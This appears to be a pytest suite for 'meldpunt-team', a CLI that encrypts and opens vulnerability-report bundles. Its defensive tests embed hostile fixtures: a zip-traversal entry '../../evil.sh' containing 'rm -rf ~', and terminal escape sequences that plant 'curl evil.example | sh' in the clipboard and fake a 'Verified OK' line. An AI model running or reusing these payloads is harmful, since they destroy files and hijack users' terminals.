"""`meldpunt-team` as the team runs it: a child process, real files, real exit codes."""

import json
import os
import pty
import re
import select
import stat
import sys
import zipfile

import pytest

from crypto import Meta, open_bytes, seal_bytes

from .bundles import make_bundle
from .conftest import TEAM_PASSPHRASE, VECTORS, run_cli

pytestmark = pytest.mark.slow  # each test runs the CLI in a child process, most with a 256 MiB argon2id key

COMMANDS = ["keygen", "pubkey", "encrypt", "decrypt", "open", "reply"]


def assert_one_line_error(result, fragment: str) -> None:
    stderr = result.stderr.decode()
    assert result.returncode == 1, stderr
    assert "Traceback" not in stderr
    assert len(stderr.strip().splitlines()) == 1, stderr
    assert stderr.startswith("meldpunt-team: "), stderr
    assert fragment.lower() in stderr.lower(), stderr


@pytest.fixture
def key_args(key_dir):
    return ["--key", key_dir / "team.key", "--passphrase-file", key_dir / "passphrase"]


@pytest.fixture
def public(key_dir):
    return (key_dir / "public").read_text().strip()


@pytest.mark.parametrize("command", [None, *COMMANDS])
def test_every_command_has_help(command):
    result = run_cli(*([command] if command else []), "--help", check=True)
    assert b"usage: meldpunt-team" in result.stdout


def test_keygen_prints_only_the_public_key_on_stdout(tmp_path, key_dir):
    result = run_cli("keygen", "-o", tmp_path / "team.key", "--passphrase-file", key_dir / "passphrase", check=True)
    line = result.stdout.decode()
    assert re.fullmatch(r"mpk1[a-z2-7]{58}\n", line)
    assert re.fullmatch(r"Fingerprint: ([0-9A-F]{4} ){4}[0-9A-F]{4}\n", result.stderr.decode())
    assert stat.S_IMODE((tmp_path / "team.key").stat().st_mode) == 0o600
    again = run_cli("keygen", "-o", tmp_path / "team.key", "--passphrase-file", key_dir / "passphrase")
    assert_one_line_error(again, "already exists")


def test_keygen_refuses_a_weak_passphrase(tmp_path):
    (tmp_path / "pw").write_text("short\n")
    result = run_cli("keygen", "-o", tmp_path / "team.key", "--passphrase-file", tmp_path / "pw")
    assert_one_line_error(result, "at least 12 characters")
    assert not (tmp_path / "team.key").exists()


def test_pubkey(key_dir, public):
    result = run_cli("pubkey", key_dir / "team.key", "--passphrase-file", key_dir / "passphrase", check=True)
    assert result.stdout.decode().strip() == public


def test_encrypt_and_decrypt_through_pipes(key_args, public):
    data = os.urandom(300_000)
    sealed = run_cli("encrypt", "--to", public, input=data, check=True).stdout
    opened = run_cli("decrypt", *key_args, input=sealed, check=True)
    assert opened.stdout == data
    assert opened.stderr.decode().startswith("Decrypted: attachment")


def test_encrypt_and_decrypt_files_with_several_recipients(tmp_path, key_args, public, other_key):
    (tmp_path / "poc.py").write_bytes(b"print('hello')\n")
    (tmp_path / "other.pub").write_text(str(other_key.public))
    run_cli(
        "encrypt",
        "--to",
        public,
        "--to",
        tmp_path / "other.pub",
        "-o",
        tmp_path / "poc.mpe",
        tmp_path / "poc.py",
        check=True,
    )
    meta, body = open_bytes((tmp_path / "poc.mpe").read_bytes(), other_key)
    assert (meta.name, meta.type, body) == ("poc.py", "text/x-python", b"print('hello')\n")
    result = run_cli("decrypt", *key_args, "-o", tmp_path / "out.py", tmp_path / "poc.mpe", check=True)
    assert (tmp_path / "out.py").read_bytes() == b"print('hello')\n"
    assert "poc.py" in result.stderr.decode()


@pytest.fixture
def sealed_file(tmp_path, public):
    from crypto import PublicKey

    data = seal_bytes(os.urandom(200_000), [PublicKey.parse(public)], Meta("attachment"))
    path = tmp_path / "in.mpe"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("damage", "sentence"),
    [
        (lambda d: d[: 172 + 65553], "ends before its last chunk"),
        (lambda d: d[:100_000], "cut off or changed"),
        (lambda d: d[:3000] + bytes([d[3000] ^ 1]) + d[3001:], "has been changed"),
        (lambda d: d[:8] + b"\x07" + d[9:], "version 7"),
        (lambda d: b"GIF89a" + d, "not a Meldpunt envelope"),
    ],
    ids=["truncated", "cut-mid-chunk", "tampered", "version", "not-an-envelope"],
)
def test_decrypt_failures_are_one_sentence_and_leave_no_output(tmp_path, key_args, sealed_file, damage, sentence):
    sealed_file.write_bytes(damage(sealed_file.read_bytes()))
    result = run_cli("decrypt", *key_args, "-o", tmp_path / "out.bin", sealed_file)
    assert_one_line_error(result, sentence)
    assert not (tmp_path / "out.bin").exists()


def test_decrypt_with_the_wrong_passphrase(tmp_path, key_dir, sealed_file):
    (tmp_path / "wrong").write_text(TEAM_PASSPHRASE + "?\n")
    result = run_cli("decrypt", "--key", key_dir / "team.key", "--passphrase-file", tmp_path / "wrong", sealed_file)
    assert_one_line_error(result, "passphrase does not open")


def test_passphrase_file_is_its_first_line_exactly(tmp_path):
    """Not trimmed, ended only by LF or CRLF (docs/format.md): a vector key whose passphrase has
    spaces at both ends opens with them, and not without."""
    key_vectors = VECTORS / "keys"
    document = json.loads((key_vectors / "vectors.json").read_text(encoding="utf-8"))
    spaced = next(case for case in document["key_files"] if case["file"] == "team-spaced-passphrase.key")
    key = key_vectors / spaced["file"]
    for ending in ("\n", "\r\n", "", "\nsecond line\n"):
        (tmp_path / "pass").write_bytes((spaced["passphrase"] + ending).encode())
        run_cli("pubkey", key, "--passphrase-file", tmp_path / "pass", check=True)
    (tmp_path / "pass").write_bytes(spaced["passphrase"].strip().encode() + b"\n")
    assert_one_line_error(run_cli("pubkey", key, "--passphrase-file", tmp_path / "pass"), "passphrase does not open")
    # A line separator inside is part of the passphrase, not the end of its line.
    (tmp_path / "pass").write_bytes(spaced["passphrase"].encode() + "\u2028rest".encode() + b"\n")
    assert_one_line_error(run_cli("pubkey", key, "--passphrase-file", tmp_path / "pass"), "passphrase does not open")


def test_decrypt_for_another_key(tmp_path, key_args, other_key):
    (tmp_path / "x.mpe").write_bytes(seal_bytes(b"x", [other_key.public], Meta("message")))
    assert_one_line_error(run_cli("decrypt", *key_args, tmp_path / "x.mpe"), "not encrypted to this key")


@pytest.mark.parametrize(
    ("args", "sentence"),
    [
        (["encrypt", "--to", "mpk1tooshort"], "wrong length"),
        (["decrypt", "--key", "/nonexistent/team.key", "--passphrase-file", "/dev/null"], "no such file"),
        (["decrypt", "--key", "/etc/hostname", "--passphrase-file", "/etc/hostname"], "not a meldpunt team key"),
        (["encrypt", "--to", "x"], "starts with 'mpk1'"),
    ],
)
def test_argument_problems_are_one_sentence(args, sentence):
    assert_one_line_error(run_cli(*args), sentence)


def test_missing_input_file(public):
    assert_one_line_error(run_cli("encrypt", "--to", public, "/nonexistent/input"), "no such file")


def test_no_terminal_and_no_passphrase_file(key_dir, sealed_file):
    result = run_cli("decrypt", "--key", key_dir / "team.key", sealed_file)
    assert_one_line_error(result, "use --passphrase-file")


def test_open_turns_a_bundle_into_a_readable_folder(tmp_path, key_args, team_file_key, other_key):
    bundle = make_bundle(tmp_path / "MP-2026-0042.zip", team_file_key, other_key)
    result = run_cli("open", bundle, *key_args, "-o", tmp_path / "out", check=True)
    folder = tmp_path / "out"
    assert result.stdout.decode().strip() == str(folder / "report.md")
    text = (folder / "report.md").read_text()
    assert text.startswith("# Report `MP-2026-0042`")
    for expected in [
        "SQL injection in the login form",
        "## Steps to reproduce",
        "Don't know",
        "Ada L.",
        str(other_key.public),
        "meldpunt-team reply --to",
    ]:
        assert expected in text
    assert text.index("Any news?") < text.index("Confirmed, fix planned")
    files = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert files == ["attachments/bashrc", "attachments/screenshot (2).png", "attachments/screenshot.png", "report.md"]
    assert (folder / "attachments/bashrc").read_bytes() == b"#!/bin/sh\necho pwned\n"
    assert all(not p.stat().st_mode & 0o111 for p in folder.rglob("*") if p.is_file())
    # Decrypted content is the team member's alone: every file 0600, every folder 0700.
    assert {stat.S_IMODE(p.stat().st_mode) for p in folder.rglob("*") if p.is_file()} == {0o600}
    assert {stat.S_IMODE(p.stat().st_mode) for p in [folder, *folder.rglob("*")] if p.is_dir()} == {0o700}
    assert not (tmp_path / ".bashrc").exists()
    # The second screenshot belongs to the follow-up message, and is listed there.
    assert text.index("screenshot%20%282%29.png") > text.index("Any news?")


def test_open_never_writes_into_a_folder_with_files(tmp_path, key_args, team_file_key, other_key):
    bundle = make_bundle(tmp_path / "b.zip", team_file_key, other_key)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    assert_one_line_error(run_cli("open", bundle, *key_args, "-o", tmp_path / "out"), "already exists")
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["keep.txt"]


def test_open_refuses_a_bundle_with_a_traversal_name(tmp_path, key_args, team_file_key, other_key):
    bundle = make_bundle(tmp_path / "b.zip", team_file_key, other_key)
    with zipfile.ZipFile(bundle, "a") as archive:
        archive.writestr("../../evil.sh", b"rm -rf ~")
    assert_one_line_error(run_cli("open", bundle, *key_args, "-o", tmp_path / "out"), "unsafe file name")
    assert not (tmp_path / "out").exists()
    assert not (tmp_path.parent / "evil.sh").exists()


def test_open_refuses_something_that_is_not_a_bundle(tmp_path, key_args):
    (tmp_path / "b.zip").write_bytes(b"<html>session expired</html>")
    assert_one_line_error(run_cli("open", tmp_path / "b.zip", *key_args, "-o", tmp_path / "out"), "not a readable")
    assert not (tmp_path / "out").exists()


def test_open_skips_an_item_that_was_changed(tmp_path, key_args, team_file_key, other_key):
    bundle = make_bundle(tmp_path / "b.zip", team_file_key, other_key)
    data = bytearray(bundle.read_bytes())
    data[5000] ^= 1  # inside the second envelope, the shell script attachment
    bundle.write_bytes(bytes(data))
    result = run_cli("open", bundle, *key_args, "-o", tmp_path / "out")
    stderr = result.stderr.decode()
    assert result.returncode == 3, stderr
    assert "Traceback" not in stderr
    assert "items/0002.mpe (attachment, 2026-11-28)" in stderr
    folder = tmp_path / "out"
    assert result.stdout.decode().strip() == str(folder / "report.md")
    assert "## Could not be opened" in (folder / "report.md").read_text()
    assert sorted(p.name for p in (folder / "attachments").iterdir()) == ["screenshot (2).png", "screenshot.png"]
    assert not list(tmp_path.glob(".out*"))


def test_open_help_names_the_exit_codes():
    shown = " ".join(run_cli("open", "--help", check=True).stdout.decode().split())
    assert "0 when everything opened; 3 when some items" in shown


def test_reply_is_sealed_to_reporter_and_team(tmp_path, key_args, other_key):
    (tmp_path / "reply.txt").write_text("Thanks, we reproduced it. Fix expected 2026-12-15.\n")
    run_cli(
        "reply",
        "--to",
        str(other_key.public),
        *key_args,
        tmp_path / "reply.txt",
        "-o",
        tmp_path / "reply.mpe",
        check=True,
    )
    meta, body = open_bytes((tmp_path / "reply.mpe").read_bytes(), other_key)
    assert meta.kind == "reply"
    assert body.decode().startswith("Thanks, we reproduced it.")
    team_view = run_cli("decrypt", *key_args, tmp_path / "reply.mpe", check=True)
    assert team_view.stdout == body


def test_reply_refuses_binary_input(tmp_path, key_args, other_key):
    (tmp_path / "reply.txt").write_bytes(b"\xff\xfe\x00binary")
    result = run_cli(
        "reply", "--to", str(other_key.public), *key_args, tmp_path / "reply.txt", "-o", tmp_path / "r.mpe"
    )
    assert_one_line_error(result, "not UTF-8 text")
    assert not (tmp_path / "r.mpe").exists()


def _on_a_terminal(args, answers: list[str], timeout: float = 60.0) -> tuple[int, str]:
    """Run the CLI with a pseudo-terminal as its controlling terminal, typing `answers` at prompts."""
    pid, fd = pty.fork()
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-m", "crypto.cli", *map(str, args)])
    output, pending = b"", list(answers)
    while True:
        ready, _, _ = select.select([fd], [], [], timeout)
        if not ready:
            os.kill(pid, 9)
            raise AssertionError(f"no output: {output!r}")
        try:
            data = os.read(fd, 4096)
        except OSError:
            break
        if not data:
            break
        output += data
        if pending and output.endswith(b": "):  # a prompt waiting for input
            os.write(fd, pending.pop(0).encode() + b"\n")
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status), output.decode(errors="replace")


def test_passphrase_prompt_is_hidden(key_dir, public):
    code, screen = _on_a_terminal(["pubkey", key_dir / "team.key"], [TEAM_PASSPHRASE])
    assert code == 0, screen
    assert "Passphrase for" in screen
    assert public in screen
    assert TEAM_PASSPHRASE not in screen


def test_keygen_asks_twice_on_a_terminal(tmp_path):
    code, screen = _on_a_terminal(["keygen", "-o", tmp_path / "k"], [TEAM_PASSPHRASE, TEAM_PASSPHRASE + "x"])
    assert code == 1
    assert "The two passphrases differ." in screen
    assert not (tmp_path / "k").exists()


def test_large_files_show_progress_on_a_terminal(tmp_path, public):
    (tmp_path / "big").write_bytes(os.urandom(24 * 1024 * 1024))
    code, screen = _on_a_terminal(["encrypt", "--to", public, "-o", tmp_path / "big.mpe", tmp_path / "big"], [])
    assert code == 0, screen
    assert "100%" in screen
    assert "MiB/s" in screen
    quiet = run_cli("encrypt", "--to", public, "-o", tmp_path / "big2.mpe", tmp_path / "big", check=True)
    assert quiet.stderr == b""


def test_decrypt_refuses_to_write_plaintext_to_a_terminal(tmp_path, key_dir, team_file_key):
    """The decrypted bytes are the reporter's: escape sequences in them would reach the terminal."""
    hostile = b"harmless\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2K\rVerified OK\n"
    (tmp_path / "item.mpe").write_bytes(seal_bytes(hostile, [team_file_key.public], Meta("attachment")))
    args = ["decrypt", "--key", key_dir / "team.key", "--passphrase-file", key_dir / "passphrase"]
    code, screen = _on_a_terminal([*args, tmp_path / "item.mpe"], [])
    assert code == 1, screen
    assert "use -o FILE or a pipe" in screen
    assert "\x1b]52" not in screen
    assert "Verified OK" not in screen
    assert len(screen.strip().splitlines()) == 1, screen
    # A pipe and a file are as before.
    assert run_cli(*args, tmp_path / "item.mpe", check=True).stdout == hostile


@pytest.mark.parametrize(
    ("content", "opens"),
    [("{p}\r\n", True), ("{p}\rsecond line\n", False), ("{p}\r", True), ("{p}\r\r\n", False)],
    ids=["crlf", "lone-cr-inside", "cr-at-the-end", "cr-crlf"],
)
def test_a_lone_cr_in_a_passphrase_file_is_part_of_the_passphrase(tmp_path, key_dir, content, opens):
    """Only LF ends the line, and one CR before it goes with it (docs/format.md): read_text() also
    ended the line at a lone CR, so a passphrase file that holds one opened a key it should not."""
    (tmp_path / "pass").write_bytes(content.format(p=TEAM_PASSPHRASE).encode())
    result = run_cli("pubkey", key_dir / "team.key", "--passphrase-file", tmp_path / "pass")
    if opens:
        assert result.returncode == 0, result.stderr.decode()
    else:
        assert_one_line_error(result, "passphrase does not open")


def test_a_passphrase_file_that_is_not_utf8(tmp_path, key_dir):
    (tmp_path / "pass").write_bytes(b"\xff\xfe" + TEAM_PASSPHRASE.encode("utf-16-le") + b"\n")
    result = run_cli("pubkey", key_dir / "team.key", "--passphrase-file", tmp_path / "pass")
    assert_one_line_error(result, "is not UTF-8 text")


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        ("\u00a0{key}\u2028\n".encode(), "characters that do not belong"),
        (b"\xff\xfe{key}\n", "is not UTF-8 text"),
    ],
    ids=["no-break-space", "not-utf8"],
)
def test_to_from_a_file_is_judged_like_the_command_line(tmp_path, public, content, sentence):
    """`--to FILE` used str.strip(), which quietly took away the no-break space and line separator
    that PublicKey.parse refuses in a line given on the command line (docs/format.md, "Keys")."""
    (tmp_path / "to.pub").write_bytes(content.replace(b"{key}", public.encode()))
    (tmp_path / "in.txt").write_text("hi")
    result = run_cli("encrypt", "--to", tmp_path / "to.pub", "-o", tmp_path / "out.mpe", tmp_path / "in.txt")
    assert_one_line_error(result, sentence)
    assert not (tmp_path / "out.mpe").exists()
    (tmp_path / "to.pub").write_bytes(b" \t" + public.encode() + b"\r\n")  # ASCII white space is fine
    run_cli("encrypt", "--to", tmp_path / "to.pub", "-o", tmp_path / "out.mpe", tmp_path / "in.txt", check=True)
